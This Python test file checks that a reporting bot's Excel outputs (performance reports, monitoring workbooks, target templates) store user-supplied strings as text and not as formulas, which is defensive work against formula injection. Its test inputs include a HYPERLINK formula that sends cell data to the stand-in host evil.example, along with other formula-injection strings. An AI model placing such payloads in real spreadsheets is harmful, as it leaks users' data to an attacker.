"""Issue 18: every workbook the project writes keeps user and file strings as text.

Each writer gets formula-like strings wherever a person or an organisation file
supplies text (kendala, tindak lanjut, reasons, names, units, indicators); the
saved file is opened again and must hold no formula (the project writes none of
its own).
"""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from bot.domain.periods import Period
from bot.domain.rating import DEFAULT_SCALE
from bot.imports.targets_template import write_targets_workbook
from bot.render.xlsx_text import looks_like_formula
from bot.reports.build import MeasurementFacts, UnitFacts, assemble
from bot.reports.model import Provenance, Signature
from bot.reports.monev import DecisionFacts, RunFacts, RunOutcome
from bot.reports.monev_render import render_monev_xlsx
from bot.reports.xlsx import render_xlsx
from tests.unit.reports.factory import HEADER, WITA, indicator, letterheaded
from tests.unit.reports.test_monev import _report, procedure, task, wita

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"Klik di sini")'
EVIL = (LINK, "=1+1", "+62-1", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=3")


def evil(n: int) -> str:
    return EVIL[n % len(EVIL)]


def formulas(book: Workbook) -> list[str]:
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # A string a spreadsheet program would evaluate must carry the quote prefix.
                if cell.data_type == "f" or (
                    looks_like_formula(cell.value) and not cell.quotePrefix
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def texts(book: Workbook) -> set[str]:
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def _performance_xlsx() -> bytes:
    period = "2026-TW3"
    at = datetime(2026, 10, 13, 10, 0, tzinfo=WITA)
    who = Provenance(entered_by=evil(0), entered_at=at, approved_by=evil(1), approved_at=at)
    rows = [
        indicator(
            f"IWK-0{i}",
            evil(i),
            sasaran=evil(i + 1),
            satuan=evil(i + 2),
            measurements={
                period: MeasurementFacts(
                    value=Decimal(60 + i),
                    approved=True,
                    provenance=who,
                    kendala=evil(i + 3),
                    tindak_lanjut=evil(i + 4),
                )
            },
        )
        for i in range(1, 4)
    ]
    rows.append(
        indicator(
            "IWK-09",
            "Indeks",
            measurements={period: MeasurementFacts(None, no_data=True, no_data_reason=LINK)},
        )
    )
    signed = Signature(
        caption="Disetujui oleh",
        jabatan=evil(2),
        name=LINK,
        nip="999900000000000002",
        signed_at=at,
    )
    units = [UnitFacts("BID-IWK", LINK, rows, (signed,), True)]
    header = replace(HEADER, organisation=LINK, sop_name=evil(1))
    report = assemble(header, Period.parse(period), units, DEFAULT_SCALE, generated_at=at, run_id=7)
    return render_xlsx(letterheaded(report))


def test_the_performance_report_and_its_provenance_sheet_hold_no_formula() -> None:
    book = load_workbook(BytesIO(_performance_xlsx()))
    assert formulas(book) == []
    assert LINK in texts(book)  # shown as typed


def test_the_monev_workbook_holds_no_formula() -> None:
    start = wita(2026, 10, 13, 9, 0)
    steps = [
        task(start, wita(2026, 10, 15, 9, 0), unit_name=LINK, role_name=evil(1), done_by=evil(2)),
        task(
            start,
            start.replace(minute=5),
            "1 Jam",
            step_no=5,
            role_name=evil(3),
            done_by=LINK,
            uraian=evil(4),
            decision=DecisionFacts(False, start.replace(minute=5), LINK, "=1+1 kurang bukti"),
        ),
    ]
    summary = procedure(
        RunFacts(
            run_id=1,
            period="2026-TW3",
            scope_name=LINK,
            state=RunOutcome.CANCELLED,
            started_at=start,
            finished_at=start,
            cancel_reason=LINK,
            tasks=tuple(steps),
        )
    )
    summary = replace(summary, sop_name=LINK)
    book = load_workbook(BytesIO(render_monev_xlsx(_report(summary))))
    assert formulas(book) == []
    assert LINK in texts(book)


def test_the_targets_template_holds_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "target.xlsx"
    indicators = [{"kode": "IWK-01", "nama": LINK, "sasaran": "=1+1", "satuan": "@orang"}]
    targets = [{"kode": "IWK-01", "tahun": 2026, "tw1": "=2*3"}]
    write_targets_workbook(path, indicators, targets, note=LINK)
    book = load_workbook(path)
    assert formulas(book) == []
    assert LINK in texts(book)
